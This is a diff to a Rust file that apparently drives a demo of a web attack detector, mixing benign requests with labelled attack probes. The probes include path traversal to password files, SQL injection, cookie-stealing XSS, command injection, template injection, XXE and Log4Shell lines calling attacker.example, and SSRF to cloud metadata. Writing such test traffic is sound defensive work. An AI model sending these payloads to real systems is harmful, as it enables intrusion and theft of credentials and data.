@@ -51,7 +51,8 @@ struct Probe {
     expect: Option<&'static str>,
 }
 
-const fn get(label: &'static str, via: Via, path: &'static str) -> Probe {
+/// A benign GET of `path`; [`Probe::post`] makes it a POST, [`Probe::attack`] an attack.
+const fn probe(label: &'static str, via: Via, path: &'static str) -> Probe {
     Probe {
         label,
         via,
@@ -79,80 +80,80 @@ impl Probe {
 
 /// What the demo sends: benign requests (no event expected) and one attack of each common type.
 const TRAFFIC: &[Probe] = &[
-    get("home page", Via::Http1, "/"),
-    get("API lookup", Via::Http1, "/api/users?id=42&sort=name"),
-    get(
+    probe("home page", Via::Http1, "/"),
+    probe("API lookup", Via::Http1, "/api/users?id=42&sort=name"),
+    probe(
         "search with prose",
         Via::Http1,
         "/search?q=how+to+select+a+good+password+from+a+list",
     ),
-    get("JSON order", Via::Http1, "/api/orders").post(
+    probe("JSON order", Via::Http1, "/api/orders").post(
         "application/json",
         r#"{"item":"O'Reilly: SQL in a nutshell","qty":2,"note":"ring & wait"}"#,
     ),
-    get("API over HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=20"),
-    get("absolute path", Via::Http1, "/etc/passwd").attack("ptrav"),
-    get(
+    probe("API over HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=20"),
+    probe("absolute path", Via::Http1, "/etc/passwd").attack("ptrav"),
+    probe(
         "encoded traversal",
         Via::Http1,
         "/static/..%2f..%2f..%2fetc%2fpasswd",
     )
     .attack("ptrav"),
-    get(
+    probe(
         "double-encoded traversal",
         Via::Http1,
         "/download?file=..%252f..%252f..%252fetc%252fshadow",
     )
     .attack("ptrav"),
-    get(
+    probe(
         "windows file",
         Via::Http1,
         "/view?page=c:%5cwindows%5cwin.ini",
     )
     .attack("ptrav"),
-    get(
+    probe(
         "traversal over HTTP/2 + TLS",
         Via::Http2Tls,
         "/files?name=....//....//etc/passwd",
     )
     .attack("ptrav"),
-    get(
+    probe(
         "SQL injection",
         Via::Http1,
         "/api/users?id=42%27%20UNION%20SELECT%20username,password%20FROM%20users--",
     )
     .attack("sqli"),
-    get("XSS in a form", Via::Http1, "/comments")
+    probe("XSS in a form", Via::Http1, "/comments")
         .post(
             "application/x-www-form-urlencoded",
             "author=eve&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
         )
         .attack("xss"),
-    get(
+    probe(
         "command injection",
         Via::Http1,
         "/tools/ping?host=127.0.0.1%3Bid%3Buname%20-a",
     )
     .attack("rce"),
-    get("template injection (JSON)", Via::Http1, "/api/render")
+    probe("template injection (JSON)", Via::Http1, "/api/render")
         .post(
             "application/json",
             r#"{"greeting":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#,
         )
         .attack("ssti"),
-    get("XXE (XML)", Via::Http1, "/api/import")
+    probe("XXE (XML)", Via::Http1, "/api/import")
         .post(
             "application/xml",
             r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#,
         )
         .attack("xxe"),
-    get(
+    probe(
         "SSRF to cloud metadata",
         Via::Http1,
         "/fetch?url=http://169.254.169.254/latest/meta-data/",
     )
     .attack("ssrf"),
-    get("Log4Shell header, HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=5")
+    probe("Log4Shell header, HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=5")
         .header("User-Agent: ${jndi:ldap://attacker.example:1389/a}")
         .attack("java_injection"),
 ];
